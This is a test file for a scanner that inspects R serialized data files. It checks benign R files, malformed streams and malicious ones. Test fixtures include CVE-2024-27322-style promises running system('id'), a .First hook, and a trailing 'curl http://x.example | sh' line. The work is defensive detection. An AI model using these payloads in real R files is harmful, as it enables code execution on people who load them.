// R serialized data: real files written by R 4.2.2 (fixtures/rdata/generate.R, MANIFEST.md) and
// streams built byte by byte (test/builders/rdata.ts) for what R does not write.
import { describe, expect, it } from 'vitest';
import { readFileSync } from 'node:fs';
import { basename } from 'node:path';
import { gzipSync } from 'fflate';
import { scan, fromBytes, type FileReport } from '../../src/engine';
import { parseSerialized } from '../../src/engine/formats/rdata/parse';
import { call, cat, closure, i32, list, NIL, promise, strsxp, T, xdr } from '../builders/rdata';

const DIR = 'fixtures/rdata';
const load = (rel: string) => new Uint8Array(readFileSync(`${DIR}/${rel}`));
const scanBytes = (bytes: Uint8Array, name: string) => scan(fromBytes(bytes, name));
const scanFixture = (rel: string) => scanBytes(load(rel), basename(rel));
const atLeastWarning = (r: FileReport) => r.findings.filter((f) => f.severity === 'critical' || f.severity === 'warning');
const rules = (r: FileReport, sev?: string) => r.findings.filter((f) => !sev || f.severity === sev).map((f) => f.ruleId).sort();

describe('rdata: benign files written by R stay below WARNING', () => {
  const BENIGN = ['data-frame.rds', 'lm-model.rds', 'glm-binomial.rds', 'factor.rds', 'list.rds', 'function.rds',
    'function-bytecode.rds', 'xdr-v2.rds', 'ascii.rds', 'native-binary.rds', 'bzip2.rds', 'xz.rds', 'workspace.RData',
    'ascii.rda', 'lazydata.rdb', 'lazydata.rdx', 'rpart.rds', 'mgcv-gam.rds', 'nnet.rds', 'coxph.rds', 'ecdf.rds', 'package-code.rdb', 'package-code.rdx', 'lazydata-lzma2.rdb'];
  for (const name of BENIGN) {
    it(`reads ${name} completely with nothing at WARNING or above`, async () => {
      const r = await scanFixture(`benign/${name}`);
      expect(atLeastWarning(r)).toEqual([]);
      expect(r.complete).toBe(true);
      expect(r.nodes.some((n) => n.format === 'rdata' && n.status === 'scanned')).toBe(true);
    });
  }

  it('walks a glm: 18 closures and 60 bytecode objects calling .Call are INFO only, stats is a base namespace', async () => {
    const r = await scanFixture('benign/glm-binomial.rds');
    expect(rules(r)).toEqual(['rdata/closure']);
    const notes = r.nodes.find((n) => n.format === 'rdata')!.notes!;
    expect(notes['counts']).toMatchObject({ closures: 18, bytecode: 60 });
    expect(notes['namespaces']).toEqual(expect.arrayContaining(['stats']));
  });

  it('reads the three encodings: XDR v2, ASCII and native little-endian binary', async () => {
    for (const [file, ser] of [['xdr-v2.rds', 'xdr version 2'], ['ascii.rds', 'ascii version 3'], ['native-binary.rds', 'binary version 3']]) {
      const r = await scanFixture(`benign/${file!}`);
      expect(r.status).toBe('clean');
      expect(r.nodes[0]!.notes!['serialization']).toBe(ser);
    }
  });

  it('lists the variables of a save() workspace', async () => {
    const r = await scanFixture('benign/workspace.RData');
    expect(r.nodes.find((n) => n.format === 'rdata')!.notes!['variables']).toEqual(['weights', 'bias', 'df']);
  });

  it('a lazy-load database of raw LZMA2 entries (compress = 3) is decoded through a wrapped xz container', async () => {
    const r = await scanFixture('benign/lazydata-lzma2.rdb');
    expect(r.nodes[0]!.notes!['entries']).toBe(2);
    expect(r.complete).toBe(true);
    expect(r.status).toBe('clean');
  });

  it('finds every entry of a lazy-load database', async () => {
    const r = await scanFixture('benign/lazydata.rdb');
    expect(r.nodes[0]!.notes!['entries']).toBe(2); // `weights` and `scale`
    expect(r.status).toBe('clean');
  });
});

describe('rdata: attacks', () => {
  it('CVE-2024-27322: a bare unbound promise calling system("id") is CRITICAL', async () => {
    const r = await scanFixture('malicious/cve-2024-27322-promise.rds');
    const f = r.findings.find((x) => x.ruleId === 'rdata/promise')!;
    expect(f.severity).toBe('critical');
    expect(f.evidence).toBe('system("id")');
  });

  it('delayedAssign(system("id")) in a saved environment is CRITICAL', async () => {
    const r = await scanFixture('malicious/delayed-assign.rds');
    expect(rules(r, 'critical')).toEqual(['rdata/promise']);
  });

  it('a promise hidden in a lazy-load database (.rdb) is CRITICAL', async () => {
    const r = await scanFixture('malicious/lazy-promise.rdb');
    expect(rules(r, 'critical')).toContain('rdata/promise');
  });

  it('a function whose body calls system is CRITICAL, also through do.call("system", ...)', async () => {
    for (const file of ['function-system.rds', 'do-call-system.rds']) {
      const r = await scanFixture(`malicious/${file}`);
      const f = r.findings.find((x) => x.ruleId === 'rdata/dangerous-call')!;
      expect(f.severity).toBe('critical');
      expect(f.message).toContain('system');
    }
  });

  it('a workspace defining .First is a WARNING and its curl | sh body CRITICAL', async () => {
    const r = await scanFixture('malicious/first-hook.RData');
    expect(rules(r, 'warning')).toContain('rdata/startup-hook');
    expect(rules(r, 'critical')).toEqual(['rdata/dangerous-call']);
  });

  it('an unforced promise calling an ordinary function is a WARNING, not CRITICAL', async () => {
    const r = await scanBytes(xdr(promise(call('mean', strsxp('x')))), 'p.rds');
    const f = r.findings.find((x) => x.ruleId === 'rdata/promise')!;
    expect(f.severity).toBe('warning');
  });

  it('a stored call to system (data, not code) is a WARNING; source(URL) in a function body is a WARNING', async () => {
    const data = await scanBytes(xdr(list(call('system', strsxp('id')))), 'c.rds');
    expect(data.findings.find((x) => x.ruleId === 'rdata/dangerous-call')!.severity).toBe('warning');
    const src = await scanBytes(xdr(closure(call('source', strsxp('http://203.0.113.7/x.R')))), 's.rds');
    expect(src.findings.find((x) => x.ruleId === 'rdata/dangerous-call')!.severity).toBe('warning');
  });

  it('eval(parse(text = ...)) in a function body is INFO: everyday R (model code re-evaluates its call)', async () => {
    const ev = await scanBytes(xdr(closure(call('eval', call('parse', strsxp('x'))))), 'e.rds');
    expect(ev.findings.filter((x) => x.ruleId === 'rdata/dangerous-call').map((x) => x.severity)).toEqual(['info', 'info']);
  });

  it('in a lazy-load database entry (package code) system() in a function is INFO, a promise stays CRITICAL', async () => {
    const { zlibSync } = await import('fflate');
    const entry = (stream: Uint8Array) => cat(i32(stream.length), zlibSync(stream));
    const db = cat(entry(xdr(closure(call('system', strsxp('ls'))))), entry(xdr(promise(call('system', strsxp('id'))))));
    const r = await scanBytes(db, 'pkg.rdb');
    expect(r.findings.filter((f) => f.ruleId.startsWith('rdata/') && f.ruleId !== 'rdata/closure').map((f) => [f.ruleId, f.severity]).sort())
      .toEqual([['rdata/dangerous-call', 'info'], ['rdata/promise', 'critical']]);
    expect(r.nodes[0]!.notes!['entries']).toBe(2);
    expect(r.complete).toBe(true);
  });

  it('pkg::fn calls are judged by their qualified name (processx::run)', async () => {
    const qualified = cat(i32(T.LANG), i32(T.LANG), cat(i32(T.SYM), i32(9 | (64 << 12)), i32(2), new TextEncoder().encode('::')),
      i32(T.LIST), cat(i32(T.SYM), i32(9 | (64 << 12)), i32(8), new TextEncoder().encode('processx')),
      i32(T.LIST), cat(i32(T.SYM), i32(9 | (64 << 12)), i32(3), new TextEncoder().encode('run')), NIL,
      i32(T.LIST), strsxp('sh'), NIL);
    const r = await scanBytes(xdr(closure(qualified)), 'q.rds');
    expect(r.findings.find((x) => x.ruleId === 'rdata/dangerous-call')!.message).toContain('processx::run');
  });

  it('bytes after the object are reported and scanned', async () => {
    const stream = xdr(list(strsxp('a')));
    const r = await scanBytes(cat(stream, new TextEncoder().encode('#!/bin/sh\ncurl http://x.example | sh\n')), 't.rds');
    expect(rules(r)).toContain('rdata/trailing-data');
    expect(r.nodes.length).toBe(2);
  });
});

describe('rdata: malformed input is reported, never clean, never a crash', () => {
  it('a truncated stream is malformed and incomplete', async () => {
    const full = load('benign/xdr-v2.rds');
    const r = await scanBytes(full.subarray(0, 200), 'cut.rds');
    expect(rules(r)).toContain('format/malformed');
    expect(r.complete).toBe(false);
    expect(r.status).toBe('error');
  });

  it('a truncated gzip .rds is incomplete', async () => {
    const full = load('benign/lm-model.rds');
    const r = await scanBytes(full.subarray(0, full.length >> 1), 'cut.rds');
    expect(r.complete).toBe(false);
  });

  it('a truncated promise attack is still found', async () => {
    const bytes = xdr(promise(call('system', strsxp('id'))));
    const r = await scanBytes(bytes.subarray(0, bytes.length - 4), 'cut.rds');
    expect(r.complete).toBe(false);
    expect(rules(r)).toContain('format/malformed');
  });

  it('an unknown type code is malformed, not malicious', async () => {
    const r = await scanBytes(xdr(list(i32(99))), 'bad.rds');
    expect(rules(r)).toEqual(['format/malformed']);
  });

  it('a vector claiming 2^31 elements is malformed without allocating', async () => {
    const r = await scanBytes(xdr(cat(i32(T.REAL), i32(0x7fffffff))), 'huge.rds');
    expect(rules(r)).toEqual(['format/malformed']);
  });

  it('lists nested 10,000 deep stop at the depth limit, incomplete', async () => {
    const depth = 10_000;
    const parts: Uint8Array[] = [];
    for (let k = 0; k < depth; k++) parts.push(cat(i32(T.VEC), i32(1)));
    parts.push(NIL);
    const r = await scanBytes(xdr(cat(...parts)), 'deep.rds');
    expect(rules(r)).toContain('scan/limit-reached');
    expect(r.complete).toBe(false);
  });

  it('a pairlist of 200,000 cells is read without recursion', () => {
    const n = 200_000;
    const cells = new Uint8Array(n * 8 + 4);
    const view = new DataView(cells.buffer);
    for (let k = 0; k < n; k++) { view.setInt32(k * 8, T.LIST); view.setInt32(k * 8 + 4, T.NIL); }
    view.setInt32(n * 8, T.NIL);
    const p = parseSerialized(xdr(cells));
    expect(p.error).toBeUndefined();
    expect(p.root?.t === 'list' && p.root.cells.length).toBe(200_000);
  });

  it('a gzip wrapper around a broken stream is incomplete', async () => {
    const r = await scanBytes(gzipSync(xdr(i32(T.STR))), 'g.rds');
    expect(r.complete).toBe(false);
  });
});

describe('rdata: malformed fixtures', () => {
  for (const file of ['truncated.rds', 'lm-model-truncated.rds', 'lazydata-truncated.rdb']) {
    it(`${file} is malformed and incomplete`, async () => {
      const r = await scanFixture(`malformed/${file}`);
      expect(rules(r)).toContain('format/malformed');
      expect(r.complete).toBe(false);
      expect(r.status).toBe('error');
    });
  }
});

describe('rdata: ALTREP classes name the package that must provide them', () => {
  it('a compact_intseq from base is silent; a class from another package is an INFO namespace note', async () => {
    // ALTREP_SXP (238): info = pairlist(class symbol, package symbol, type), state, attr
    const altrep = (cls: string, pkg: string) => cat(i32(238), i32(T.LIST), cat(i32(T.SYM), i32(9 | (64 << 12)), i32(cls.length), new TextEncoder().encode(cls)),
      i32(T.LIST), cat(i32(T.SYM), i32(9 | (64 << 12)), i32(pkg.length), new TextEncoder().encode(pkg)), i32(T.LIST), cat(i32(T.INT), i32(1), i32(13)), NIL,
      cat(i32(T.REAL), i32(3), new Uint8Array(24)), NIL);
    expect((await scanBytes(xdr(altrep('compact_intseq', 'base')), 'a.rds')).findings).toEqual([]);
    const r = await scanBytes(xdr(altrep('vroom_dbl', 'vroom')), 'b.rds');
    expect(r.findings.map((f) => [f.ruleId, f.evidence])).toEqual([['rdata/namespace', 'vroom']]);
  });
});

describe('rdata: names that are also JavaScript object properties', () => {
  it('calls to constructor() or toString() are ordinary calls, not a crash', async () => {
    const r = await scanBytes(xdr(closure(call('constructor', call('toString', strsxp('x'))))), 'p.rds');
    expect(r.complete).toBe(true);
    expect(r.findings.map((f) => f.ruleId)).toEqual(['rdata/closure']);
  });

  it('an unforced promise whose code is a bare symbol (an argument captured in an environment) is silent', async () => {
    const sym = cat(i32(T.SYM), i32(9 | (64 << 12)), i32(4), new TextEncoder().encode('expr'));
    expect((await scanBytes(xdr(list(promise(sym))), 's.rds')).findings).toEqual([]);
  });
});
